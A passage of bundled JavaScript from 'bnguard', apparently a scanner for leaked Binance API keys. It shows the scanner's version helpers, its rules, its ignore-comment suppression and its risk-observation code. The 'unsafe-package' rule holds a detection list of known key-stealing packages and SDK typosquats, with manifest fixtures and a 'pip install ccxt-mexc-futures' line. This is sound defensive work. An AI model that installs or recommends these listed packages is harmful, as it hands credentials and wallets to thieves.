	return high[1] === "<" && sameVersion(next(from), to) ? from : void 0;
}
function next(version) {
	return version.replace(/\d+$/, (last) => String(Number(last) + 1));
}
function sameVersion(a, b) {
	return compareVersions(a, b) === 0;
}
/** Whether a version is one of those that an entry lists: `1.1.35`, `>=1.56.7`. */
function isListed(version, listed) {
	return listed.some((one) => one.startsWith(">=") ? compareVersions(version, one.slice(2)) >= 0 : sameVersion(version, one));
}
/** By their numbers, left to right, missing ones 0; words after the numbers count as text. */
function compareVersions(a, b) {
	const [one, another] = [partsOf(a), partsOf(b)];
	for (let i = 0; i < Math.max(one.numbers.length, another.numbers.length); i += 1) {
		const difference = (one.numbers[i] ?? 0) - (another.numbers[i] ?? 0);
		if (difference !== 0) return difference;
	}
	if (one.rest === another.rest) return 0;
	return one.rest === "" ? 1 : another.rest === "" || one.rest > another.rest ? another.rest === "" ? -1 : 1 : -1;
}
function partsOf(version) {
	const [, numbers = "", rest = ""] = /^v?(\d+(?:\.\d+)*)(.*)$/.exec(version.slice(0, 100).replace(/\+.*$/, "")) ?? [];
	return {
		numbers: numbers.split(".").map(Number),
		rest: rest.toLowerCase()
	};
}
// ../engine/dist/rules/unsafe-package.js
/** Dependencies that steal keys, and names that are nearly those of SDKs. Not packages that are merely old. */
const listed$1 = new Map(unsafePackages.map((entry) => [`${entry.ecosystem} ${entry.name}`, entry]));
function entryOf({ ecosystem, name }) {
	const scope = name.startsWith("@") ? `${ecosystem} ${name.slice(0, name.indexOf("/"))}/*` : "";
	return listed$1.get(`${ecosystem} ${name}`) ?? listed$1.get(scope);
}
/** Whether it is a bad version. Of an honest package a range is bad only if it can mean no other. */
function isBad({ versions, isHijacked }, { version, isLocked, ecosystem }) {
	if (!versions) return true;
	const only = version === void 0 ? void 0 : isLocked ? [version] : onlyVersions(version, ecosystem);
	return only ? only.every((one) => isListed(one, versions)) : !isHijacked;
}
const unsafePackage = {
	id: "unsafe-package",
	title: "Package that steals keys",
	severity: "critical",
	finds: "A dependency that is known to steal keys, by its name or by that version, in the manifests and lockfiles of npm, PyPI, Go, Cargo, NuGet, Maven, RubyGems and Packagist; and a name that is nearly that of a Binance SDK (low).",
	why: "A package runs with all the rights of the bot, and some are published only to send API keys, .env files and wallets to a thief. They take names that are easy to mistype, or slip into honest packages for a few hours.",
	advice: [
		"If it was ever installed: delete the API keys that this machine could read, make new ones on a clean machine, and look through the account’s orders and withdrawals.",
		"Remove the package, delete node_modules or the virtual environment, and install again from a lockfile without it.",
		"Take the SDK’s name from Binance’s own documentation."
	],
	references: [
		"https://developers.binance.com/docs/binance-spot-api-docs/rest-api#sdk-and-code-demonstration",
		"https://osv.dev/",
		"https://github.com/ossf/malicious-packages"
	],
	*look(subject) {
		if (!require_gates.dependencyFile.test(subject.document.path)) return;
		const ownScope = scopeOf(subject);
		for (const dependency of dependenciesOf(subject)) {
			const risk = risked(dependency, ownScope);
			if (risk) yield risk;
		}
	},
	examples: {
		leaks: [
			{
				path: "package.json",
				text: "{ \"dependencies\": { «\"axios\"»: \"1.14.1\", \"@binance/spot\": \"^5.0.0\" } }"
			},
			{
				path: "package.json",
				text: "{ \"dependencies\": { \"http\": «\"npm:axios@0.30.4\"» } }"
			},
			{
				path: "package.json",
				text: "{ \"overrides\": { \"foo\": { «\"axios\"»: \"1.14.1\" } } }"
			},
			{
				path: "package.json",
				text: "{ \"devDependencies\": { «\"@wagni_bot/binance-sdk\"»: \"^1.0.0\" } }"
			},
			{
				path: "package.json",
				text: "{ \"dependencies\": { «\"node-binnance-api\"»: \"^0.13.1\", «\"@binnance/spot\"»: \"1\" } }"
			},
			{
				path: "package-lock.json",
				text: "{ \"packages\": { \"\": { \"dependencies\": { \"axios\": \"^1.14.0\" } }, «\"node_modules/axios\"»: { \"version\": \"1.14.1\" } } }"
			},
			{
				path: "package-lock.json",
				text: "{ \"dependencies\": { «\"axios\"»: { \"version\": \"1.14.1\", \"requires\": { \"plain-crypto-js\": \"^4.2.1\" } } } }"
			},
			{
				path: "yarn.lock",
				text: "«axios@1.14.1», axios@^1.14.0:\n  version \"1.14.1\"\n"
			},
			{
				path: "yarn.lock",
				text: "«\"axios@npm:^1.14.0\"»:\n  version: 1.14.1\n  resolution: \"axios@npm:1.14.1\"\n"
			},
			{
				path: "pnpm-lock.yaml",
				text: "packages:\n\n  «'@wagni_bot/core@1.0.0'»:\n    resolution: {}\n\n  «axios@1.14.1»:\n    resolution: {}"
			},
			{
				path: "bun.lock",
				text: "{ \"packages\": { «\"axios\"»: [\"axios@1.14.1\", \"\", {}, \"sha512-x\"], } }"
			},
			{
				path: "requirements.txt",
				text: "ccxt>=4\n«ccxt_mexc_futures»==0.2.1\n«python-binnance»\n«pyhton-binance»>=1"
			},
			{
				path: "requirements/base.txt",
				text: "«CryptoAITools»  # tools"
			},
			{
				path: "pyproject.toml",
				text: "[project]\ndependencies = [\"ccxt>=4.4\", «\"binance-sdk-ebate==10.0.0\"»]"
			},
			{
				path: "pyproject.toml",
				text: "[tool.poetry.dependencies]\n«set-utils» = { version = \"^1\" }"
			},
			{
				path: "Pipfile",
				text: "[packages]\n«solanapy» = \"*\""
			},
			{
				path: "poetry.lock",
				text: "[[package]]\nname = «\"ccxt-mexc-futures\"»\nversion = \"0.1\""
			},
			{
				path: "setup.py",
				text: "from setuptools import setup\nsetup(name=\"bot\", install_requires=[\"ccxt\", «\"set-utils>=1\"»])"
			},
			{
				path: "setup.cfg",
				text: "[options]\ninstall_requires =\n    ccxt\n    «set-utils»>=1"
			},
			{
				path: "environment.yml",
				text: "dependencies:\n  - python=3.11\n  - pip:\n      - «bip-uttils==1.0.0»"
			},
			{
				path: "Desk.csproj",
				text: "<Project><ItemGroup><PackageReference Include=«\"Binance.CSharp\"» Version=\"1.1.35\" /></ItemGroup></Project>"
			},
			{
				path: "Directory.Packages.props",
				text: "<Project><ItemGroup><PackageVersion Include=«\"Binance.Libary\"» Version=\"1.0\" /></ItemGroup></Project>"
			}
		],
		clean: [
			{
				path: "package.json",
				text: "{ \"dependencies\": { \"axios\": \"1.14.0\", \"@binance/connector\": \"3.6.1\", \"ccxt\": \"^4\" } }"
			},
			{
				path: "package.json",
				text: "{ \"name\": \"axios\", \"version\": \"1.14.1\", \"scripts\": { \"axios\": \"1.14.1\" } }"
			},
			{
				path: "package.json",
				text: "{ \"name\": \"@acme/bot\", \"dependencies\": { \"@acme/binance-sdk\": \"^1\" } }"
			},
			{
				path: "package.json",
				text: "{ \"overrides\": { \"plain-crypto-js\": \"npm:empty-module@1.0.0\" } }"
			},
			{
				path: "package.json",
				text: "{ \"dependencies\": { \"binance\": \"^3\", \"binance-api-node\": \"^0.12\", \"node-binance-api\": \"^0.13\", \"@binance/derivatives-trading-usds-futures\": \"^1\", \"yfinance\": \"0.0.6\" } }"
			},
			{
				path: "package-lock.json",
				text: "{ \"packages\": { \"node_modules/axios\": { \"version\": \"1.14.2\" } } }"
			},
			{
				path: "requirements.txt",
				text: "python_binance==1.0.29\nbinance-sdk-rebate\nunicorn-binance-rest-api\nbinance-historical-data\n# set-utils\nfinance\nccxtpro"
			},
			{
				path: "Desk.csproj",
				text: "<Project><ItemGroup><!-- <PackageReference Include=\"Binance.Libary\" Version=\"1.0\" /> --><PackageReference Include=\"Binance.Net\" Version=\"11.0.0\" /></ItemGroup></Project>"
			},
			{
				path: "notes.md",
				text: "Never install ccxt-mexc-futures or axios 1.14.1."
			}
		],
		missed: [{
			path: "package.json",
			text: "{ \"dependencies\": { \"axios\": \"^1.14.0\" } }",
			because: "a range says only which versions may be installed; the lockfile says which was"
		}, {
			path: "Dockerfile",
			text: "RUN pip install ccxt-mexc-futures",
			because: "commands are no lists of dependencies"
		}]
	}
};
function risked(dependency, ownScope) {
	const { ecosystem, name, version, span } = dependency;
	const common = {
		span,
		name: `${ecosystem}/${name}`,
		clues: [clue("anyones-risk", "whoever installs it loses keys")]
	};
	const entry = entryOf(dependency);
	if (entry) {
		if (!isBad(entry, dependency)) return void 0;
		const shown = entry.versions && version !== void 0 ? `${name} ${version}` : name;
		return {
			...common,
			message: `${shown} ${entry.does} (reported on ${entry.date})`
		};
	}
	const near = isElsewhere(version) ? void 0 : nearName(name, ecosystem, ownScope);
	return near && {
		...common,
		severity: "low",
		confidence: near.confidence,
		message: `${require_worth_reading.shownInLowerCase(name)} is nearly the name of ${near.of}, and another package: check which one is meant`
	};
}
/** What comes from this repository, a file or a git server is not what a registry has under the name. */
function isElsewhere(version) {
	return version !== void 0 && /^(?:workspace|file|link|portal|git\+\w+|git|github|https?):|^[.~]{0,2}\//.test(version);
}
/** The scope under which the project publishes itself. */
function scopeOf({ reading, document: { path } }) {
	if (!/package(?:-lock)?\.json$/.test(path)) return void 0;
	const name = reading.bindings.find((one) => one.path.length === 1 && one.path[0] === "name")?.value;
	return name?.kind === "text" ? /^@([^/]+)\//.exec(name.text)?.[1] : void 0;
}
// ../engine/dist/rules/index.js
const rules = [
	secretKey,
	apiKey,
	privateKey,
	keyPassphrase,
	signedRequest,
	listenKey,
	documentedExample,
	withdrawalsEnabled,
	transfersEnabled,
	broadPermissions,
	ipUnrestricted,
	ipListInvalid,
	clientExposed,
	insecureTransport,
	foreignEndpoint,
	secretLogged,
	envNotIgnored,
	envTracked,
	keyAge,
	keyReused,
	inventoryMismatch,
	recvWindow,
	weakKeyType,
	fundMovingCall,
	unsafeKeyCreation,
	unsafePackage,
	{
		id: "unused-ignore",
		title: "Ignore that matches nothing",
		severity: "info",
		finds: "A bnguard-ignore comment, an ignore entry of the configuration or a baseline entry that sets nothing aside.",
		why: "An excuse that outlives its reason hides the next leak at its place.",
		advice: ["Remove it (from a baseline: bnguard baseline --prune), renew the date of one that expired, or accept what got worse (bnguard baseline). A comment that should match names the rule: bnguard-ignore secret-key -- reason."],
		references: [],
		examples: {
			leaks: [
				{
					path: "bot.py",
					text: "x = 1  # bnguard-ignore secret-key -- a test key"
				},
				{
					path: "bot.ts",
					text: "// bnguard-ignore api-key, secret-key -- documentation\nconst key = process.env.KEY;"
				},
				{
					path: "notes.md",
					text: "<!-- bnguard-ignore private-key -->"
				},
				{
					path: "bot.go",
					text: "x := 1 // bnguard-ignore"
				},
				{
					path: "old.py",
					text: "x = 1  # bnguard-ignore secret-key was revoked in March"
				},
				{
					path: "next.js",
					text: "// bnguard-ignore-next-line secret-key -- dead\nconst x = 1;"
				}
			],
			clean: [
				{
					path: "README.md",
					text: "```py\nx = 1  # bnguard-ignore secret-key -- an example\n```"
				},
				{
					path: "bot.js",
					text: "// Comments are read by bnguard-ignore"
				},
				{
					path: "binance.js",
					text: "// The comment to use is described in the README."
				},
				{
					path: "binance.js",
					text: "const help = 'write bnguard-ignore secret-key in a comment';"
				},
				{
					path: "binance.py",
					text: "# ignore secret-key"
				}
			],
			missed: []
		}
	}
];
// ../engine/dist/suppress.js
/**
* Sets findings aside, always with who and why: ignore comments, config entries, the baseline. An ignore that matches
* nothing becomes a finding of its own, so that excuses do not outlive what they excused.
*/
/** Of the name what is the same in `Bnguard`. */
const name = "nguard";
/** Comments further into a line than this are not looked for. */
const maxLine = 4e3;
/** What people write for it who have seen the comments of other tools; behind it a rule, a reason or nothing. */
const near = /^bnguard[-:_ ]{0,2}(?:ignore|disable|allow|skip|noqa|nosec)(?![a-z])(?:-(?:all|(?:next-)?(?:line|file)))?[ \t:=([]*(?:rules?[ \t:=]{1,3})?["'`]?(?:$|--|\*|([a-z][a-z_-]*))/i;
const syntax = /^bnguard-ignore(?:[ \t:]+([a-z][a-z-]*(?:[ \t]*,[ \t]*[a-z][a-z-]*)*))?(?:[ \t]+(?:--|—)([^\n]*))?$/;
/** Nothing but the comment's opening, which is not longer than that. */
const longestOpening = 200;
const onlyOpening = /^[^\w\s]*\s*$/;
/** What ends the comments that do not end with their line. */
const closing = /(?:\*\/|-->|#\}|\]\]|--%>|\}\})$/;
/** What may open a comment where no reader knows comments. */
const opening = /(?:#|\/\/|\/\*|<!--|--|;|%|'|\brem\b|\{#|\*)[^\n]*$/i;
/** The `bnguard-ignore <rule>[, <rule>] -- reason` comments of a document. */
function ignoresOf(document, reading, locator) {
	const { text, path, origin } = document;
	const found = [];
	const commentAt = commentsOf(reading);
	for (let next = text.indexOf(name); next >= 0; next = text.indexOf(name, next + 6)) {
		const at = next - 1;
		if (!/^bnguard[-:_ ]{0,2}[a-z]/i.test(text.slice(Math.max(0, at), at + 12))) continue;
		const lineFrom = require_worth_reading.lineStart(text, at, maxLine);
		const lineTo = require_worth_reading.lineEnd(text, at, maxLine);
		const comment = commentAt(at);
		const before = text.slice(lineFrom, at);
		if (!comment && (knowsComments(reading.language) || !opening.test(before))) continue;
		const told = text.slice(at, comment ? Math.min(lineTo, comment.end) : lineTo).trimEnd().replace(closing, "").trimEnd();
		const match = syntax.exec(told);
		const [, named = "", reason] = match ?? [];
		if (named === "" && !(comment && isOpening(text, comment.start, at))) continue;
		if (!match && !isMeant(told)) continue;
		const { start, end } = locator.places({
			start: at,
			end: Math.min(lineTo, at + 14 + 1 + named.length)
		});
		found.push({
			kind: "ignore",
			path,
			origin,
			start,
			end,
			rules: named === "" ? [] : named.split(/[\s,]+/),
			...!match && { isUnread: true },
			...comment ? {} : { mayBeUnused: true },
			reason: reasonFrom(reason ?? "") || void 0,
			line: standsAlone(text, lineFrom, lineTo, comment ?? {
				start: at,
				end: lineTo
			}) ? start.line + 1 : start.line
		});
	}
	return stacked(found);
}
const isOpening = (text, start, end) => end - start <= longestOpening && onlyOpening.test(text.slice(start, end));
/** Whether a comment that is not read was to be one, and is no sentence. */
function isMeant(told) {
	const [whole, rule] = near.exec(told) ?? [];
	return whole !== void 0 && (rule === void 0 || rules.some(({ id }) => bare(id) === bare(rule)));
}
/** Texts and tables have no comment syntax that a reader could know. */
function knowsComments(language) {
	return ![
		"text",
		"csv",
		"markdown",
		"notebook",
		"basic",
		"batch",
		"markup"
	].includes(language);
}
/** The comment that holds an offset, for ascending offsets: comments are as many as a file has room for. */
function commentsOf({ comments }) {
	const sorted = [...comments].sort((a, b) => a.start - b.start);
	let next = 0;
	let reaching;
	return (at) => {
		for (; next < sorted.length && sorted[next].start <= at; next += 1) if (!reaching || sorted[next].end > reaching.end) reaching = sorted[next];
		return reaching && at < reaching.end ? reaching : void 0;
	};
}
/** Whether the line holds nothing but the comment and the marks that open and close it. */
function standsAlone(text, from, to, comment) {
	const before = text.slice(from, Math.max(from, comment.start)).trim();
	const after = text.slice(Math.min(to, comment.end), to).trim();
	return /^(?:#|\/\/|\/\*|<!--|--|;|%|'|\{#|\{|\*)*$/.test(before) && /^[})]?$/.test(after);
}
/** Several ignores above one line all cover that line. */
function stacked(ignores) {
	const covered = /* @__PURE__ */ new Map();
	for (const { line, start, rules: named } of ignores) if (line > start.line && named.length > 0) covered.set(start.line, line);
	for (const [from, line] of [...covered].sort(([a], [b]) => b - a)) covered.set(from, covered.get(line) ?? line);
	return ignores.map((ignore) => {
		const line = ignore.line > ignore.start.line ? covered.get(ignore.start.line) ?? ignore.line : ignore.line;
		return line === ignore.line ? ignore : {
			...ignore,
			line
		};
	});
}
const longestReason = 300;
/** A reason fit for the report. */
function reasonFrom(text) {
	return require_worth_reading.withoutValues(text.trim()).slice(0, longestReason);
}
/**
* Splits findings into those that stand and those that are set aside; adds `unused-ignore` findings to the first.
* @param standings of a history: where each finding stands. It is set aside where all its newest versions, or all its
*   paths, are.
*/
function suppress(findings, ignores, repository, standings) {
	if (repository.noIgnores) return {
		findings: [...findings],
		suppressed: []
	};
	const entries = repository.suppressions ?? [];
	const used = /* @__PURE__ */ new Set();
	const kept = [];
	const suppressed = [];
	const byPlace = /* @__PURE__ */ new Map();
	for (const ignore of ignores) for (const rule of new Set(ignore.rules)) {
		const place = `${documentKey(ignore)}\0${String(ignore.line)}\0${rule}`;
		const others = byPlace.get(place);
		if (others) others.push(ignore);
		else byPlace.set(place, [ignore]);
	}
	const usedPlaces = /* @__PURE__ */ new Set();
	const commentOn = ({ rule }, at) => {
		const document = documentKey(at);
		let first;
		for (let { line } = at.start; line <= at.end.line; line += 1) {
			const comments = byPlace.get(`${document}\0${String(line)}\0${rule}`);
			if (!comments) continue;
			usedPlaces.add(comments);
			first ??= comments[0];
		}
		if (!first) return void 0;
		const { path, start, reason } = first;
		return {
			by: "comment",
			...reason ? { reason } : {},
			at: `${path}:${String(start.line)}`
		};
	};
	const entryFor = (finding) => {
		let first;
		for (const entry of entries) {
			if (!entry.covers(finding)) continue;
			used.add(entry);
			first ??= entry;
		}
		return first && {
			by: first.by,
			...first.reason ? { reason: reasonFrom(first.reason) } : {},
			at: first.at
		};
	};
	for (const finding of findings) {
		const { newest = [finding], paths = [finding.path] } = standings?.get(finding) ?? {};
		const [suppression] = [newest.map((at) => commentOn(finding, at)), paths.map((path) => entryFor(path === finding.path ? finding : {
			...finding,
			path
		}))].filter((all) => all.every((one) => one !== void 0)).map(([one]) => one);
		if (suppression) suppressed.push({
			...finding,
			suppression
		});
		else kept.push(finding);
	}
	for (const comments of usedPlaces) for (const ignore of comments) used.add(ignore);
	for (const ignore of ignores) if (!used.has(ignore) && !ignore.mayBeUnused && ignore.origin.kind !== "history") kept.push(unused(ignore, unusedMessage(ignore), ignore.rules.join()));
	for (const entry of entries) {
		if (used.has(entry) || entry.mayBeUnused) continue;
		const origin = { kind: "file" };
		kept.push(unused({
			...entry.place,
			origin
		}, `The ${entry.by === "config" ? "ignore entry" : "baseline entry"} at ${entry.at} ${uselessness(entry, findings)}`, entry.at));
	}
	return {
		findings: kept,
		suppressed
	};
}
/** Why an entry sets nothing aside. */
function uselessness({ isExpired, upTo }, findings) {
	if (isExpired) return "sets nothing aside any more";
	const meant = upTo ? findings.filter((finding) => upTo.means(finding)) : [];
	const worst = require_first.severities.findLast((severity) => meant.some((finding) => finding.severity === severity));
	return upTo && worst ? `accepts ${upTo.severity}; the finding is ${worst}` : "matches nothing";
}
function unusedMessage({ rules: named, isUnread }) {
	if (isUnread) return "The ignore comment is not read, since it is written otherwise than bnguard-ignore RULE -- reason";
	if (named.length === 0) return "The ignore comment names no rule, so it sets nothing aside";
	const unknown = named.filter((id) => !rules.some((rule) => rule.id === id));
	const meant = unknown.flatMap((id) => rules.filter((rule) => bare(rule.id) === bare(id)).map((rule) => rule.id));
	const question = meant.length > 0 ? ` (did you mean ${meant.join(" or ")}?)` : "";
	const hint = unknown.length > 0 ? `; there is no rule ${unknown.join(" or ")}${question}` : "";
	return `The ignore comment for ${named.join(", ")} matches nothing${hint}`;
}
/** `apikey`, `Secret_Keys`: a rule's name but for dashes, capitals or an s. */
const bare = (id) => id.toLowerCase().replace(/[-_]/g, "").replace(/s$/, "");
function unused({ path, origin, start, end }, message, what) {
	return {
		rule: "unused-ignore",
		role: "unknown",
		severity: "info",
		confidence: "certain",
		message,
		masked: "",
		fingerprint: (0, node_crypto.createHash)("sha256").update(`ignore\0${path}\0${what}`).digest("hex").slice(0, 32),
		environment: "unknown",
		path,
		origin,
		start,
		end,
		evidence: []
	};
}
// ../engine/dist/risks/observe-risks.js
/**
* Document → what is dangerous in it: asks every rule that looks for risks, and says of each thing found whose it may
* be. What rules look for stands with them (rules/*.ts); here is what they share.
*/
/** So many findings of one rule are told of one file: a list of a thousand is data. */
const most = 200;
/** The rule that looks into lists of dependencies, whatever stands in them. */
const dependencies = "unsafe-package";
const lookers = rules.flatMap(({ id, severity, look, mayFind }) => look ? [{
	id,
	severity,
	look,
	mayFind
}] : []);
/**
* Pure; never throws; cheap for documents in which no rule could find anything.
* @param only the rules that are asked, besides those about lists of dependencies; absent: all
*/
function observeRisks(document, parsed, only) {
	const chance = narrowed(document, require_gates.chanceIn(document.text), only, parsed !== void 0);
	if (!chance && !require_gates.dependencyFile.test(document.path)) return [];
	const subject = subjectOf(document, chance, parsed);
	const found = risksIn(subject, chance);
	if (found.length === 0) return [];
	const settings = settingsAt(found.map(({ risk }) => risk.span), subject.settings);
	const containerOf = containersIn(subject);
	const around = surroundingsOf(document, subject.reading);
	const locator = locate(document);
	return found.map(({ rule, severity, risk, name }, index) => {
		const setting = settings[index];
		return {
			kind: "risk",
			rule,
			severity: risk.severity ?? severity,
			message: require_worth_reading.withoutValues(risk.message),
			fingerprint: identityOf(rule, document.path, name),
			clues: [
				sureness(risk.confidence ?? "certain"),
				...risk.clues ?? [],
				...whose(risk, setting, subject, around, containerOf)
			],
			environment: environmentOf(risk, setting, subject, around),
			sample: around.sample || subject.isProse,
			...risk.since !== void 0 && { since: risk.since },
			path: document.path,
			origin: document.origin,
			...locator.places(risk.span)
		};
	});
}
/**
* Without rules that are not asked for, and those that the words of a program alone tell to find nothing. What they look
* for is still read: it may tell the others whose something is.
*/
function narrowed({ path, text }, chance, only, isParsed) {
	if (!chance || isBinary(text) || isForOtherExchange({
		path,
		text
	}) || isScanReport({
		path,
		text
	})) return void 0;
	let left = lookers.filter(({ id }) => chance.rules.has(id) && (!only || only.has(id)));
	if (!isParsed && left.some(({ mayFind }) => mayFind)) {
		const language = languageOf(path, text);
		if (isLanguage(language)) {
			const program = {
				text,
				language,
				tokens: () => lex(text, languages[language])
			};
			left = left.filter(({ mayFind }) => !mayFind || mayFind(program));
		}
	}
	return left.length === 0 ? void 0 : {
		rules: new Set(left.map(({ id }) => id)),
		words: chance.words
	};
}
/** A database, say, is no file of settings; one with a zero byte or two may be. */
function isBinary(text) {
	return text.includes("\0") && text.split("\0", mostZeros + 1).length > mostZeros;
}
const mostZeros = 64;
/** What the rules find, at most so much of each. */
function risksIn(subject, chance) {
	const { document } = subject;
	const found = [];
	for (const { id, severity, look } of lookers) {
		if (id !== dependencies && !chance?.rules.has(id)) continue;
		const named = /* @__PURE__ */ new Map();
		let told = 0;
		for (const risk of look(subject)) {
			if (!isIn(document.focus, risk.span.start)) continue;
			if ((told += 1) > most) break;
			const count = (named.get(risk.name) ?? 0) + 1;
			named.set(risk.name, count);
			const name = count === 1 ? risk.name : `${risk.name}\0${String(count)}`;
			found.push({
				rule: id,
				severity,
				risk,
				name
			});
		}
	}
	return found;
}
function isIn(focus, at) {
	return !focus || at >= focus.start && at < focus.end;
}
/** The identity of a finding that has no value: of the rule, the file and what it is called there. */
function identityOf(rule, path, name) {
	return (0, node_crypto.createHash)("sha256").update(`risk\0${rule}\0${path}\0${name}`).digest("hex").slice(0, 32);
}
function sureness(confidence) {
	if (confidence === "certain") return clue("plain-risk", "it says so in so many words");
	if (confidence === "likely") return clue("likely-risk", "it can hardly be anything else");
	return clue("doubtful-risk", "it may be something else");
}
/** For each span the first setting that it stands in. One pass over the settings, of which there may be many. */
function settingsAt(spans, settings) {
	const order = spans.map((_, index) => index).sort((a, b) => spans[a].start - spans[b].start);
	const found = spans.map(() => void 0);
	let open = order;
	for (const setting of settings) {
		const { start, end } = setting.span;
		const first = countBefore(open.length, (at) => spans[open[at]].start < start);
		let any = false;
		for (let at = first; at < open.length && spans[open[at]].start <= end; at += 1) {
			if (spans[open[at]].end > end) continue;
			found[open[at]] = setting;
			any = true;
		}
		if (any) open = open.filter((index) => found[index] === void 0);
		if (open.length === 0) break;
	}
	return found;
}
function containersIn({ settings }) {
	let known;
	const placeOf = (path) => `${String(path.length)}\0${path.slice(0, -1).join("\0")}`;
	return (path) => {
		if (!known) {
			known = /* @__PURE__ */ new Map();
			for (const one of settings) {
				const place = placeOf(one.path);
				if (!known.has(place)) known.set(place, one.container);
			}
		}
		return known.get(placeOf(path)) ?? 0;
	};
}
/** A danger whatever the project is for: who else is named beside it, and for which system, says nothing. */
function isAnyones({ clues = [] }) {
	return clues.some(({ signal }) => signal === "anyones-risk");
}
/** What the document and the entries beside it say: Binance's, or another's. */
function whose(risk, setting, subject, around, containerOf) {
	if (isAnyones(risk)) return [];
	const clues = [...around.clues];
	if (isNear(subject.document.text, risk.span, around)) clues.push(clue("binance-near", "Binance is named within ten lines"));
	if (!setting) return clues;
	return [
		...clues,
		...named$1(setting, subject, around),
		...exchangeBeside(setting, around, containerOf)
	];
}
/** What the names of the setting, or of the call that takes it, say. */
function named$1(setting, subject, around) {
	const { binance, exchange, service } = require_worth_reading.meaningOfPath([...setting.call?.callee ?? [], ...setting.path]);
	if (binance === "name") return [clue("binance-name", "its name says Binance")];
	const other = exchange ?? service;
	if (other !== void 0) return [clue("other-service", `its name says ${other}`)];
	return !(subject.reading.language in languages) && isOtherSection(setting.path, around.sections) ? [clue("other-section", "the section beside its own is Binance’s")] : [];
}
/** What the entries beside it, or else beside the nearest mapping around it, say of the exchange. */
function exchangeBeside(setting, around, containerOf) {
	const { length } = setting.path;
	let own = exchangeClues(setting, around);
	for (let depth = length - 1; own.length === 0 && depth > 0 && length - depth <= farthestAbove; depth -= 1) {
		const path = setting.path.slice(0, depth);
		own = exchangeClues({
			path,
			container: containerOf(path)
		}, around);
	}
	return own;
}
/** Of so many mappings around it one is asked whose it is. */
const farthestAbove = 20;
function environmentOf(risk, setting, subject, around) {
	if (isAnyones(risk)) return "unknown";
	const beside = setting ? besideEnvironment(setting, around) : "unknown";
	const told = beside === "unknown" ? environmentNear(subject.document.text, risk.span, subject.isProse, around) : beside;
	return told === "unknown" ? around.environment : told;
}
// ../engine/dist/observe.js
const hexPair = clue("hex-pair", "two hex values side by side, for the testnet");
/** Names of what holds credentials, and of what makes tuples. */
const owning = /cred|auth|account|key|secret|api|binance|client|testnet|login|triple|pair|tuple|of$|^(?:new|build|make|create|connect|init)/i;
/** `{ "klines.zip": … }`: a name that is neither an index nor one of a credential. */
function isNamedElse({ path, embedded, call }) {
	const name = path.findLast((step) => !/^\d+$/.test(step)) ?? call?.callee.at(-1) ?? "";
	return !embedded && name.length > 1 && !owning.test(name) && require_worth_reading.meaningOfPath(path).role === void 0;
}
/** Whether it and its neighbour are the only two hex values of a call or a list. */
function isLonePair(candidate, around) {
	const near = around.filter(({ shape, uses }) => shape === "hex64" && !uses.some(isNamedElse));
	const containers = new Set(candidate.uses.map(({ container }) => container).filter((container) => container > 0));
	return near.filter(({ uses }) => uses.some(({ container }) => containers.has(container))).length === 2;
}
/**
* Everything worth knowing of one document. Pure; never throws; cheap for documents without candidates.
* @param parsed of a front that has a parser of its own for the document's code
*/
function observe(document, parsed) {
	return withLineHashes([...observeCredentials(document, parsed), ...observeRisks(document, parsed)], document);
}
/** Those that may become findings get the hash of their line; one into which a passphrase would go is not told. */
function withLineHashes(observations, { text, start, origin }) {
	if (start !== void 0 || origin.kind === "editor" || !observations.some(isHashed)) return observations;
	const hashes = lineHashes(text);
	const passphrases = observations.flatMap((one) => one.kind === "credential" && one.shape === "passphrase" ? [one] : []);
	return observations.map((one) => {
		if (!isHashed(one)) return one;
		const { hash: lineHash, lastLine } = hashes[one.start.line - 1] ?? {};
		const tells = passphrases.some((other) => other.end.line >= one.start.line && other.start.line <= (lastLine ?? 0));
		return lineHash === void 0 || tells ? one : {
			...one,
			lineHash
		};
	});
}
const isHashed = (one) => one.kind === "credential" || one.kind === "risk";
/** The credentials of a document, its ignore comments and what it says of its project. */
function observeCredentials(document, parsed) {
	const { text } = document;
	const found = [...projectObservations(document)];
	if (!parsed && !require_worth_reading.worthReading(text, () => isForOtherExchange(document))) return found;
	const reading = read(document, forCredentials, parsed);
	const locator = locate(document);
	for (const ignore of ignoresOf(document, reading, locator)) found.push(ignore);
	const candidates = candidatesOf(document, reading);
	if (candidates.length === 0) return found;
	const around = surroundingsOf(document, reading);
	const withheld = new Withheld(candidates.map(({ secret }) => secret));
	const safe = (words) => withheld.from(words);
	for (const [index, candidate] of candidates.entries()) {
		const { start, end } = candidate.span;
		if (document.focus && (start < document.focus.start || start >= document.focus.end)) continue;
		const { clues, environment, environmentBy, use, stem } = weigh(candidate, candidates.slice(Math.max(0, index - 1), index + 2), document, reading, around);
		const documented = documentedAs(candidate.secret.sha256) !== void 0;
		const isHexPair = candidate.shape === "hex64" && environment === "testnet" && isLonePair(candidate, candidates.slice(Math.max(0, index - 2), index + 3));
		if (candidate.shape === "hex64" && !documented && !hexIsCredential(clues, environment, isHexPair)) continue;
		const service = candidate.uses.map(({ path }) => require_gates.serviceWithin(document.path, path)).find((one) => one !== void 0);
		const variable = candidate.uses.map(({ path }) => path.at(-1) ?? "").find((name) => /^[A-Z][A-Z0-9_]{2,60}$/.test(name));
		const observation = {
			kind: "credential",
			shape: candidate.shape,
			fingerprint: candidate.secret.fingerprint,
			masked: candidate.secret.masked,
			documented,
			clues: [...clues, ...isHexPair ? [hexPair] : []].map((one) => safe(one.says) === one.says ? one : {
				...one,
				says: safe(one.says)
			}),
			environment,
			environmentBy,
			use: safe(use),
			stem: safe(stem),
			containers: [...new Set(candidate.uses.map(({ container }) => container))],
			sample: around.sample,
			...service !== void 0 && { service: safe(service) },
			...variable !== void 0 && { variable: safe(variable) },
			path: document.path,
			origin: document.origin,
			...locator.places({
				start,
				end
			})
		};
		found.push(observation);
	}
	return found;
}
// ../engine/dist/pairs.js
/** Finds the halves that belong together: an API key and the secret or private key that signs for it. */
/** How far apart, in places of the file's order, halves are looked for: keeps files of thousands linear. */
const reach = 12;
/** Below this, two values merely stand in one file. */
const minimum = 2;
/** The lead of a role that only a name such as `keys` tells: 2 bits. */
const weakest = 2;
/** Pairs the cases of one file, nearest and most alike first, and gives both halves what they say of each other. */
function pairWithin(cases) {
	const crowded = cases.filter(isOther).length >= 2;
	const roles = new Map(cases.map((item) => [item, roleOf(item.clues).role]));
	const roleBefore = (item) => roles.get(item) ?? "unknown";
	const scored = [];
	cases.forEach((a, i) => {
		for (const b of cases.slice(i + 1, i + 1 + reach)) {
			const score = scoreOf(a, b, roleBefore);
			if (score >= minimum) scored.push({
				a,
				b,
				score
			});
		}
	});
	scored.sort((x, y) => y.score - x.score);
